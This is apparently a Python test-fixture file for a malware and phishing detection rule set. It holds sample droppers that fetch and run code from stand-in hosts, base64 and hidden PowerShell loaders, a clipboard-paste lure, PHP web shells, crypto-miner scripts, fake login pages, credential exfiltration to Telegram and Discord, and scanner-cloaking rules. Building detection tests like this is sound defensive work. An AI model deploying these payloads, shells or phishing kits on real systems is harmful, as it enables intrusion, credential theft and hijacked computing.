"""Samples that the rules must match, and files that only resemble them.

All samples are harmless: hosts are reserved names, keys are made up, and the EICAR test file is assembled at run time,
so that virus scanners do not report this file.
"""

from __future__ import annotations

import struct
from typing import NamedTuple

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
BASE64 = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 5
TOKEN = "123456789:" + "AAAbbbCCCdddEEEfffGGGhhhIIIjjjKKKll"


class Sample(NamedTuple):
    rule: str
    file: str
    content: bytes


def elf(*, big_endian: bool = False, kind: int = 2) -> bytes:
    order = ">" if big_endian else "<"
    ident = b"\x7fELF" + bytes([2, 2 if big_endian else 1, 1]) + bytes(9)
    return ident + struct.pack(f"{order}HH", kind, 62) + bytes(44)


def pe(*, is_dll: bool = False, is_managed: bool = False, is_64: bool = False) -> bytes:
    """The headers of a Windows program: DOS, PE, and the optional one with its sixteen directories."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x2022 if is_dll else 0x0022)
    optional = struct.pack("<H", 0x20B if is_64 else 0x10B) + bytes((112 if is_64 else 96) - 2)
    directories = bytearray(128)
    if is_managed:
        directories[112:120] = struct.pack("<II", 0x2008, 72)
    return dos + b"PE\0\0" + coff + optional + bytes(directories) + bytes(64)


def macho() -> bytes:
    return struct.pack("<IIII", 0xFEEDFACF, 0x0100000C, 0, 2) + bytes(48)


def fat_macho() -> bytes:
    return struct.pack(">IIIII", 0xCAFEBABE, 2, 0x01000007, 3, 4096) + bytes(64)


def java_class() -> bytes:
    return struct.pack(">IHH", 0xCAFEBABE, 0, 65) + bytes(64)


def login_page(title: str, action: str, *, extra: str = "") -> bytes:
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{title}</title>{extra}</head><body>
<form class="login" method="post" action="{action}">
  <input type="email" name="email"><input name="password" type="password"><button>Log in</button>
</form></body></html>""".encode()


def wasm(*names: str) -> bytes:
    return b"\0asm\x01\0\0\0" + b"\0".join(name.encode() for name in names) + bytes(32)


LOADER_SH = b"""#!/bin/sh
cd /tmp || cd /var/run || cd /mnt
wget http://203.0.113.7/bins/arm7 -O .x; chmod 777 .x; ./.x; rm -rf .x
"""

CRON_SH = b"""#!/bin/bash
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://updates.example/a.sh | sh") | crontab -
"""

WSCRIPT_VBS = b"""Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://files.example/a", False
Set stream = CreateObject("ADODB.Stream")
stream.Write http.responseBody
stream.SaveToFile "a.tmp", 2
CreateObject("WScript.Shell").Run "a.tmp", 0
"""

MINER_JS = b"""const pool = new WebSocket("wss://pool.example/");
const worker = new Worker("cryptonight.js");
pool.onmessage = (event) => worker.postMessage({job_id: event.data.job_id, target: event.data.target});
worker.onmessage = (event) => pool.send(JSON.stringify({type: "submit", nonce: event.data.nonce}));
setInterval(() => console.log(worker.hashesPerSecond, worker.acceptedHashes), 1000);
"""

COINHIVE_JS = b"""(function(window){"use strict";var CoinHive={};CoinHive.CONFIG={WEBSOCKET_SHARDS:[["wss://ws.example/"]]};
CoinHive.CRYPTONIGHT_WORKER_BLOB="blob:";window.CoinHive=CoinHive})(window);"""

MAILER_PHP = b"""<?php
$ip = $_SERVER['REMOTE_ADDR'];
$message  = "Email : ".$_POST['email']."\\n";
$message .= "Password : ".$_POST['passwd']."\\n";
$message .= "IP : ".$ip."\\n";
mail($send, "Result from $ip", $message);
header("Location: https://www.example.com/");
"""

CLOAK_PHP = b"""<?php
$hostname = gethostbyaddr($_SERVER['REMOTE_ADDR']);
foreach (array("phishtank", "netcraft", "openphish", "kaspersky") as $word) {
  if (substr_count($hostname, $word) > 0) { header("HTTP/1.0 404 Not Found"); die("gone"); }
}
"""

CLOAK_HTACCESS = b"""RewriteEngine on
RewriteCond %{HTTP_USER_AGENT} (phishtank|netcraft|bitdefender) [NC]
RewriteRule .* - [F,L]
"""

TELEGRAM_PAGE = """<html><body><form id="f"><input id="u"><input id="p" type="password"></form><script>
const text = `Email: ${u.value}\\nPassword: ${p.value}`;
fetch("https://api.telegram.org/botTOKEN/sendMessage", {method: "POST", body: JSON.stringify({chat_id: 1, text})});
</script></body></html>""".replace("TOKEN", TOKEN).encode()

DISCORD_JS = b"""const body = {content: "user: " + user + " password: " + pass};
fetch("https://discord.com/api/webhooks/1/abc", {method: "POST", body: JSON.stringify(body)});"""

INLINE_MINER = b"""<!doctype html><html><body><script>
  var miner = new CoinHive.Anonymous("abcdefghijklmnop", {throttle: 0.3}); miner.start();
</script></body></html>"""

HOSTED_MINER = b'<html><script async src="https://www.webminepool.com/lib/base.js"></script></html>'
STARTED_JS = b'var m=new CRLT.Anonymous("0123456789abcdef0123",{threads:2});m.start();'
STRATUM_SH = b"#!/bin/sh\n./xmrig -o stratum+tcp://pool.example.com:3333 -u wallet -p x --background\n"
STRATUM_JS = b"""const net = require("net");
const socket = net.connect(3333, "pool.example.com"); // stratum+tcp://pool.example.com:3333
socket.write(JSON.stringify({id: 1, method: "mining.subscribe", params: []}));"""

CLIPBOARD_PAGE = b"""<html><button onclick="copy()">I am not a robot</button><script>
function copy() { navigator.clipboard.writeText('powershell -w hidden -c "iwr http://files.example/a"'); }
</script></html>"""

MICROSOFT_LOGO = '<img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo.svg">'

BAD = [
    Sample("executable-elf", "app", elf()),
    Sample("executable-elf", "photo.png", elf(kind=3)),
    Sample("executable-elf", "firmware.bin", elf(big_endian=True)),
    Sample("executable-elf", "cut-off", elf()[:8]),
    Sample("executable-dos", "tools/EDIT.COM", b"MZ" + bytes(100)),
    Sample("executable-dos", "logo.png", bytes.fromhex("4d5a9000 03000000 04000000 ffff0000") + bytes(100)),
    Sample("executable-pe", "setup.exe", pe()),
    Sample("executable-pe", "invoice.pdf", pe(is_64=True)),
    Sample("executable-pe", "lib/native.dll", pe(is_dll=True)),
    Sample("executable-pe", "_framework/native.dll", pe(is_dll=True)),
    Sample("executable-pe", "_framework/tool.exe", pe(is_managed=True)),
    Sample("executable-macho", "tool", macho()),
    Sample("executable-macho", "font.woff2", fat_macho()),
    Sample("malware-eicar", "eicar.com", EICAR),
    Sample("malware-eicar", "notes.txt", EICAR + b"\r\n"),
    Sample("dropper-shell", "bins.sh", LOADER_SH),
    Sample("dropper-shell", "update", LOADER_SH.replace(b"\n", b"\n\n")),
    Sample("dropper-cron", "install.sh", CRON_SH),
    Sample("dropper-encoded-shell", "run.sh", f"#!/bin/bash\necho {BASE64} | base64 -d | bash\n".encode()),
    Sample("dropper-encoded-shell", "run", f'#!/bin/sh\neval "$(echo {BASE64} | base64 --decode)"\n'.encode()),
    Sample("dropper-powershell", "a.bat", f"@echo off\r\npowershell.exe -nop -enc {BASE64}\r\n".encode()),
    Sample(
        "dropper-powershell",
        "a.cmd",
        b"powershell -WindowStyle Hidden -c \"(New-Object Net.WebClient).DownloadFile('http://files.example/a','a')\"",
    ),
    Sample("dropper-wscript", "invoice.vbs", WSCRIPT_VBS),
    Sample("dropper-clipboard", "verify.html", CLIPBOARD_PAGE),
    Sample("webshell-direct", "up.php", b"<?php @eval($_POST['cmd']); ?>"),
    Sample("webshell-direct", "cmd.php", b'<pre><?php system( $_GET["c"] ); ?></pre>'),
    Sample("webshell-direct", "shell.txt", b"<?php\necho `$_REQUEST['x']`;\n"),
    Sample("webshell-direct", "logo.gif", b"GIF89a\x01\0\x01\0<?php assert(base64_decode($_COOKIE['k'])); ?>"),
    Sample("webshell-direct", "a.phtml", b"<?php $_GET['f']($_GET['a']); ?>"),
    Sample("webshell-packed", "wp-tmp.php", f"<?php eval(gzinflate(base64_decode('{BASE64}'))); ?>".encode()),
    Sample("webshell-known", "w.php", b"<?php $default_action = 'FilesMan'; function wsoEx($in) { return exec($in); }"),
    Sample("miner-hosted", "index.html", HOSTED_MINER),
    Sample("miner-hosted", "index.htm", b"<script src='//coinhive.com/lib/coinhive.min.js'></script>"),
    Sample("miner-started", "index.html", INLINE_MINER),
    Sample("miner-started", "m.js", STARTED_JS),
    Sample("miner-started", "k.js", b'var miner = new CoinHive.Anonymous("key"); miner.start();'),
    Sample("miner-library", "lib/worker.js", MINER_JS),
    Sample("miner-library", "c.min.js", COINHIVE_JS),
    Sample("miner-wasm", "cn.wasm", wasm("_cryptonight_create", "_cryptonight_hash", "_malloc")),
    Sample("miner-stratum", "mine.sh", STRATUM_SH),
    Sample("miner-stratum", "pool.js", STRATUM_JS),
    Sample(
        "miner-config",
        "config.json",
        b'{"donate-level": 1, "cpu": true, "pools": [{"url": "pool.example.com:3333", "user": "4A", "pass": "x"}]}',
    ),
    Sample("phishing-login", "index.html", login_page("Log in to your PayPal account", "https://collect.example/in")),
    Sample("phishing-login", "fb/index.html", login_page("Facebook – log in or sign up", "login.php")),
    Sample("phishing-login", "index.php", b"<?php include 'a.php' ?>" + login_page("Netflix - Sign In", "./send.php")),
    Sample("phishing-login", "a.html", login_page("Sign in to PayPal", "https://paypal.com.example.net/x")),
    *(
        Sample("phishing-login", "index.html", login_page(title, "https://collect.example/in"))
        for title in (
            *("PayPal Login", "Login - PayPal", "Secure Login | PayPal", "Verify your PayPal account", "Instagram"),
            *("PayPal Security Check", "Your account has been limited - PayPal", "Sign in – Google Accounts"),
            *("Log into Facebook", "Bank of America | Online Banking | Log In", "Microsoft Office 365 - Sign In"),
            *(
                "Steam Community :: Login",
                "LinkedIn Login, Sign in | LinkedIn",
                "Update your billing details | Netflix",
            ),
        )
    ),
    Sample("phishing-login", "index.html", login_page("Log in to your PayPal account", "collect.php")),
    Sample(
        "phishing-microsoft",
        "office.html",
        login_page("Sign in to your account", "https://collect.example/", extra=MICROSOFT_LOGO),
    ),
    Sample("phishing-telegram", "index.html", TELEGRAM_PAGE),
    Sample("phishing-telegram", "app.js", DISCORD_JS),
    Sample(
        "phishing-telegram",
        "send.php",
        b'<?php $t = "Password: " . $_POST[\'p\']; file_get_contents("https://api.telegram.org/bot$k/sendMessage?t=$t");',
    ),
    Sample("phishing-mailer", "post.php", MAILER_PHP),
    Sample("phishing-cloak", "antibots.php", CLOAK_PHP),
    Sample("phishing-cloak", ".htaccess", CLOAK_HTACCESS),
]
